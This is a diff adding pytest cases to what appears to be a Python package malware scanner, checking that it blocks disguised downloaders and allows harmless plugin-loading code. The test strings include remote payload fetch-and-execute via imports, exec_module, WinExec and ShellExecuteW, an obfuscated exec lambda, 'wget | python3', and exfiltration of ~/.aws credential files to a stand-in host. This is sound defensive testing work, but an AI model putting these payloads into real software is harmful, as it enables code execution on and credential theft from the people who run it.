@@ -318,3 +318,62 @@ def test_registering_decorators_and_lazy_getattr_are_ordinary(tmp_path: Path) ->
     result = scan_target(_package(tmp_path, "__init__", payload), Policy())
     assert result.error is None, result.error
     assert result.verdict.decision is Decision.ALLOW, result.verdict.findings
+
+
+# -- downloads loaded as modules or started through the Windows API, and more disguises ---------
+
+_DOWNLOAD = (
+    "import os, sys, tempfile, urllib.request\n"
+    "d = tempfile.mkdtemp()\n"
+    "p = os.path.join(d, 'stage2.py')\n"
+    "open(p, 'wb').write(urllib.request.urlopen('https://198.51.100.4/s').read())\n"
+)
+_LAYERED = base64.b64encode(zlib.compress(BODY.encode())).decode()[::-1]
+LOADED = {
+    "imported after sys.path.insert": _DOWNLOAD + "sys.path.insert(0, d)\nimport stage2\n",
+    "loaded with exec_module": _DOWNLOAD + "import importlib.util\n"
+    "spec = importlib.util.spec_from_file_location('stage2', p)\n"
+    "spec.loader.exec_module(importlib.util.module_from_spec(spec))\n",
+    "started with WinExec": _DOWNLOAD
+    + "import ctypes\nctypes.windll.kernel32.WinExec(p.encode(), 0)\n",
+    "started with ShellExecuteW": _DOWNLOAD
+    + "import ctypes\nctypes.windll.shell32.ShellExecuteW(None, 'open', p, None, None, 0)\n",
+    "a decoding lambda": "_ = lambda s: __import__('zlib').decompress("
+    f"__import__('base64').b64decode(s[::-1]))\nexec(_({_LAYERED!r}))\n",
+    "a download piped into python": "import subprocess\n"
+    "subprocess.call('wget -q -O - http://198.51.100.4/x | python3', shell=True)\n",
+    "a credential folder globbed": "import glob, os, requests\n"
+    "for f in glob.glob(os.path.expanduser('~/.aws/*')):\n"
+    "    requests.post('https://example.org/a', data=open(f).read())\n",
+}
+
+
+@pytest.mark.parametrize("payload", list(LOADED.values()), ids=list(LOADED))
+def test_loaded_downloads_and_layered_disguises_are_blocked(payload: str, tmp_path: Path) -> None:
+    for place in ("__init__", "imported module"):
+        directory = tmp_path / place.replace(" ", "_")
+        directory.mkdir()
+        result = scan_target(_package(directory, place, payload), Policy())
+        assert result.error is None, result.error
+        rules = sorted({f.rule for f in result.verdict.findings})
+        assert result.verdict.decision is Decision.BLOCK, (place, rules)
+
+
+def test_plugin_paths_and_lambdas_are_ordinary(tmp_path: Path) -> None:
+    payload = (
+        "import os, sys, importlib.util, requests\n"
+        "HERE = os.path.dirname(__file__)\n"
+        "sys.path.insert(0, os.path.join(HERE, 'vendor'))\n"
+        "import six\n"
+        "def load_plugin(path):\n"
+        "    spec = importlib.util.spec_from_file_location('plugin', path)\n"
+        "    module = importlib.util.module_from_spec(spec)\n"
+        "    spec.loader.exec_module(module)\n"
+        "    return module\n"
+        "key = lambda item: item.lower()\n"
+        "def latest():\n"
+        "    return sorted(requests.get('https://example.org/v').json(), key=key)[-1]\n"
+    )
+    result = scan_target(_package(tmp_path, "__init__", payload), Policy())
+    assert result.error is None, result.error
+    assert result.verdict.decision is Decision.ALLOW, result.verdict.findings
